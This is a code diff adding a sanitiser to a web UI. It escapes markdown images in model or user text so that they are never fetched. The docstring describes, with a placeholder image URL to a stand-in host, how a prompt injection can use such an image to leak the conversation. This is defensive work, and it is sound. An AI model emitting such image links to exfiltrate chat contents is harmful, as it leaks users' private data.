@@ -181,3 +181,19 @@ def text_block(text: str, caption: bool = False) -> str:
     """Plain text as a paragraph (model text inside stays literal; no markdown is applied)."""
     style = "font-size:.9rem;color:#444" if caption else ""
     return f'<p class="gb-text" style="{style}">{esc(text)}</p>'
+
+
+_MD_CODE = re.compile(r"(```[\s\S]*?(?:```|$)|~~~[\s\S]*?(?:~~~|$)|`[^`\n]*`)")
+
+
+def markdown_safe(text: str) -> str:
+    """Model or user text made safe for st.markdown: images are shown as text, never fetched.
+
+    Streamlit escapes raw HTML and drops ``javascript:`` links, but a markdown image
+    ``![x](https://host/pixel?q=...)`` would make the visitor's browser fetch any URL: a
+    tracking pixel, or a channel a prompt injection can leak the conversation through.
+    "![" becomes "!\\[", which renders as the literal characters. Code spans and fenced
+    blocks are left alone (markdown shows them literally already).
+    """
+    parts = _MD_CODE.split(text)  # odd indices are code
+    return "".join(p if i % 2 else p.replace("![", "!\\[") for i, p in enumerate(parts))
